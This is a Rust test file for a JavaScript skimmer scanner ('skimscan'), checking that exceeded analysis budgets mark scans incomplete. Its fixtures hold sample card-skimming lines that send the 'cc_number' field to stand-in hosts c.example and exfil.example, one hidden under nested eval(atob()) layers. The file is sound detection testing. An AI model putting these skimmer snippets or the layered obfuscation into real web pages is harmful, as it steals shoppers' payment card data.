//! Issue 7, item 3: an analysis that stops early for any budget is an incomplete scan. Before
//! the fix, running out of the script's evaluation steps, leaving decoded code unanalysed
//! (too many layers or bytes) or dropping statements after a syntax error stopped the analysis
//! silently: the report said "complete" and the exit code 0 for a script nobody fully read.

mod adversarial_support;

use adversarial_support::{errors_of, run_measured};
use base64::Engine as _;
use skimscan::inventory::ScriptKind;
use skimscan::js::{AnalysisJob, Engine, HostPolicy, ScriptAnalysis};
use skimscan::rules::RuleSet;
use std::sync::Arc;

fn analyse(code: String) -> ScriptAnalysis {
    let engine = Engine::new(
        Arc::new(RuleSet::load(false, &[]).unwrap()),
        HostPolicy::default(),
    );
    let job = AnalysisJob {
        script_id: "t.js".into(),
        kind: ScriptKind::External,
        code: code.into(),
        page_url: "t.js".into(),
        page_host: None,
        payment_page: true,
        line_offset: 1,
        column_offset: 1,
        page_fields: Vec::new(),
        page_values: Default::default(),
        page_form: Vec::new(),
    };
    engine.analyse_batch(vec![job]).pop().unwrap()
}

fn stopped_early(r: &ScriptAnalysis, why: &str) {
    assert!(
        r.errors.iter().any(|e| e.contains(why)),
        "expected an error about {why:?}: {:?}",
        r.errors
    );
    assert!(
        r.findings
            .iter()
            .any(|f| f.rule == "analysis-budget-exceeded"),
        "{:?}",
        r.findings
    );
}

/// The lone script `code`, scanned by the real binary: incomplete, exit 3.
fn scan_is_incomplete(name: &str, code: &str, extra: &[&str]) {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join(name);
    std::fs::write(&path, code).unwrap();
    let mut args = vec!["scan", "--format", "json"];
    args.extend_from_slice(extra);
    args.push(path.to_str().unwrap());
    let m = run_measured(&args, &[]);
    assert_eq!(m.code, 3, "{}", m.stderr);
    let report = m.json();
    assert_eq!(report["complete"], false);
    assert!(
        errors_of(&report)
            .iter()
            .any(|(url, _)| url.ends_with(name)),
        "{:#}",
        report["errors"]
    );
}

/// Decoder loops that spend the script's whole evaluation budget (each loop gets its share,
/// ten of them drain it): what the evaluator would have computed after that is unknown.
fn fuel_eater() -> String {
    "var k=0;for(;;){k++}\n".repeat(12)
}

#[test]
fn spending_the_evaluation_budget_is_reported() {
    let r = analyse(fuel_eater());
    assert!(
        r.errors
            .iter()
            .any(|e| e.contains("step budget") || e.contains("time budget")),
        "{:?}",
        r.errors
    );
    scan_is_incomplete("fuel.js", &fuel_eater(), &[]);
}

/// `eval(atob(…))` nested deeper than the layers the engine follows.
fn onion(layers: usize) -> String {
    let mut code =
        "new Image().src='https://c.example/?'+document.getElementById('cc_number').value;"
            .to_string();
    for _ in 0..layers {
        code = format!(
            "eval(atob(\"{}\"));",
            base64::engine::general_purpose::STANDARD.encode(&code)
        );
    }
    code
}

#[test]
fn decoded_code_beyond_the_layer_limit_is_reported() {
    stopped_early(&analyse(onion(7)), "decoded code beyond the limits");
    // Through the binary, the sealed decoder interpreter (issue 11) unwraps the layers the
    // evaluator stops at: the skimmer at the core is found, host named (exit 1), not lost.
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("onion.js");
    std::fs::write(&path, onion(7)).unwrap();
    let m = run_measured(&["scan", "--format", "json", path.to_str().unwrap()], &[]);
    assert_eq!(m.code, 1, "{}", m.stderr);
    let report = m.json();
    assert!(
        report["findings"]
            .as_array()
            .unwrap()
            .iter()
            .any(|f| f["severity"] == "critical"
                && f["hosts"]
                    .as_array()
                    .unwrap()
                    .iter()
                    .any(|h| h == "c.example")),
        "{report}"
    );
    // Within the limit: fully analysed, nothing to report about budgets.
    let r = analyse(onion(2));
    assert!(r.errors.is_empty(), "{:?}", r.errors);
}

#[test]
fn decoded_code_beyond_the_byte_limit_is_reported() {
    // Three 3 MB layers: more decoded code than the engine analyses per script (8 MB). Mostly
    // spaces, so analysing the first two is quick even in a debug build.
    let filler = format!("{}x=1;", " ".repeat(3_000_000));
    let layer = format!(
        "eval(atob(\"{}\"));\n",
        base64::engine::general_purpose::STANDARD.encode(&filler)
    );
    stopped_early(&analyse(layer.repeat(3)), "decoded code beyond the limits");
}

#[test]
fn statements_beyond_the_fallback_limit_are_reported() {
    // A syntax error sends the script to the fallback parser, which keeps 20,000 statements.
    let code = format!("{}}}", "var a=1;\n".repeat(25_000));
    stopped_early(&analyse(code.clone()), "statements around syntax errors");
}

#[test]
fn a_script_over_the_size_limit_is_reported() {
    let code = "var price = 1;\n".repeat(200);
    scan_is_incomplete("big.js", &code, &["--max-body-size", "1KB"]);
}

#[test]
fn code_nested_too_deeply_is_reported_and_the_rest_analysed() {
    let code = format!(
        "var x={}1;\nvar n=document.getElementById('cc_number').value;\nfetch('https://exfil.example/c',{{method:'POST',body:n}});\n",
        "a=".repeat(100_000)
    );
    let r = analyse(code);
    stopped_early(&r, "not analysed");
    assert!(
        r.findings
            .iter()
            .any(|f| f.rule == "payment-data-exfiltration"),
        "{:?}",
        r.findings
    );
}
